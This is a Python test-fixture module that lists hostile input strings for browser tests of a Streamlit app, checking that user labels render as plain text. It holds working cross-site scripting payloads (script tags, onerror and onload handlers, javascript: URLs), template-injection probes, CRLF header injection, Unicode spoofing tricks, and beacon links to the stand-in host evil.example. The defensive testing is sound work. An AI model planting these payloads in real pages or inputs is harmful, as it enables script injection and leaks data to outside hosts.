"""Hostile text for the browser tests: what a careless or malicious file or person might type.

Every string that could run code does so by setting ``window.__pwned`` (never by
``alert``), and every string that could create an element marks it with the attribute
``data-tk-hostile``, so a test can look for both in the page and in every frame. The
external addresses use the hosts ``evil`` and ``evil.example`` (no such host exists, and
the browser tests abort every request that leaves 127.0.0.1 anyway), so a link made from
one of these strings has ``evil`` in its address and the tests can find it.

``HOSTILE`` holds the strings a label may hold (1-200 characters); ``TOO_LONG`` is the
10,000-character string that validation must refuse with a Norwegian message.
"""

from __future__ import annotations

from typing import NamedTuple

PWN = "window.__pwned=1"


class Hostile(NamedTuple):
    name: str
    text: str


HOSTILE: tuple[Hostile, ...] = (
    # HTML and script injection
    Hostile("script", f"<script>{PWN}</script>"),
    Hostile("img-onerror", f'<img src=x onerror="{PWN}" data-tk-hostile>'),
    Hostile("svg-onload", f"<svg onload={PWN} data-tk-hostile>"),
    Hostile("svg-script", f"<svg data-tk-hostile><script>{PWN}</script></svg>"),
    Hostile("attribute-breakout", f'"><img src=x onerror={PWN} data-tk-hostile>'),
    Hostile("single-quote-breakout", f"'><svg onload={PWN} data-tk-hostile>"),
    Hostile("script-end", f"</script><script>{PWN}</script>"),
    Hostile("iframe-srcdoc", f'<iframe srcdoc="<script>parent.{PWN}</script>" data-tk-hostile>'),
    Hostile("details-ontoggle", f"<details open ontoggle={PWN} data-tk-hostile>x</details>"),
    Hostile("style-and-meta", '<style>*{display:none}</style><meta http-equiv="refresh">'),
    Hostile("base-href", '<base href="http://evil/" data-tk-hostile>'),
    Hostile("html-comment", "<!-- -->]]><![CDATA[x]]>"),
    # URLs
    Hostile("javascript-url", f"javascript:{PWN}"),
    Hostile("anchor-javascript", f'<a href="javascript:{PWN}" data-tk-hostile>klikk</a>'),
    Hostile("data-url", f"data:text/html,<script>{PWN}</script>"),
    # HTML entities (must show as typed, not decoded)
    Hostile("entities", "&lt;script&gt;window.__pwned=1&lt;/script&gt; &amp; &#60;b&#62;"),
    # Template syntax (Jinja, JS template literals, Python format)
    Hostile("jinja-expression", "{{7*7}} {{ config }}"),
    Hostile("js-template", "${7*7} `${alert}`"),
    Hostile("jinja-statement", "{% for x in range(3) %}x{% endfor %} {# c #}"),
    Hostile("other-templates", "#{7*7} <%= 7*7 %> {0.__class__} %s%n"),
    # Markdown and LaTeX (Streamlit renders both in messages)
    Hostile("markdown-link", f"[x](javascript:{PWN})"),
    Hostile("markdown-image", "![x](http://evil/x.png)"),
    Hostile("markdown-format", "**fet** _kursiv_ `kode` # Overskrift :red[rød] :smile:"),
    Hostile("autolink", "www.evil.example <http://evil/>"),
    Hostile("latex", "$\\alert{1}$ $$\\href{javascript:window.__pwned=1}{x}$$"),
    # Bare addresses: Streamlit's Markdown makes links of these on its own (issue 9)
    Hostile("bare-http", "http://evil.example/x"),
    Hostile("bare-https-beacon", "https://evil.example/beacon.png?kommune=3903"),
    Hostile("bare-www", "www.evil.example/side"),
    Hostile("mailto", "mailto:someone@evil.example"),
    Hostile("bare-email", "someone@evil.example"),
    Hostile("bare-javascript", "javascript:window.__pwned=1//evil.example"),
    Hostile("markdown-beacon", "![x](http://evil.example/beacon.png?kommune=3903)"),
    # Unicode tricks
    Hostile("right-to-left-override", "Mor\u202egnp.exe\u202c og far"),
    Hostile("bidi-isolates", "\u2066Lærer\u2069 \u2067بيانات\u2069 \u2068x\u2069"),
    Hostile("zero-width", "Ve\u200bn\u200cn\u200d \ufeffFar\u2060"),
    Hostile("line-separators", "Linje\u2028separator\u2029avsnitt"),
    Hostile("emoji", "👨\u200d👩\u200d👧\u200d👦 🇳🇴 🧕🏽 ✊🏿 🏳️\u200d🌈"),
    Hostile("normalisation", "\u212bse vs \u00c5se vs A\u030ase; \ufb01ne; ＜script＞"),
    Hostile("homoglyph", "\u0405kole (kyrillisk S)"),
    # Control characters
    Hostile("nul", f"Mor\x00<script>{PWN}</script>"),
    Hostile("crlf", "Linje1\r\nLinje2\rLinje3\nSet-Cookie: x=1"),
    Hostile("tabs-and-bell", "a\tb\x07c\x1bd\x7f"),
    # Length and odd shapes
    Hostile("long-word", "Kontaktlærerkoordinatorstafettholder" * 5),
    Hostile("json-breakers", '"}]}, {"id": "x"} \\u003cscript\\u003e \\'),
    Hostile("prototype", "__proto__ constructor toString"),
)

URLS: tuple[Hostile, ...] = tuple(
    h for h in HOSTILE if h.name.startswith(("bare-", "mailto", "markdown-beacon", "autolink"))
)
"""The addresses alone: a title, label or name made of one must show as text, not a link."""

TOO_LONG = Hostile("10000-characters", "Å" * 10_000)
"""Longer than any label may be (200 characters): refused, in Norwegian."""

ALL: tuple[Hostile, ...] = (*HOSTILE, TOO_LONG)

assert len(ALL) >= 30
assert all(1 <= len(h.text) <= 200 for h in HOSTILE), [h.name for h in HOSTILE if len(h.text) > 200]
assert len({h.name for h in ALL}) == len(ALL)
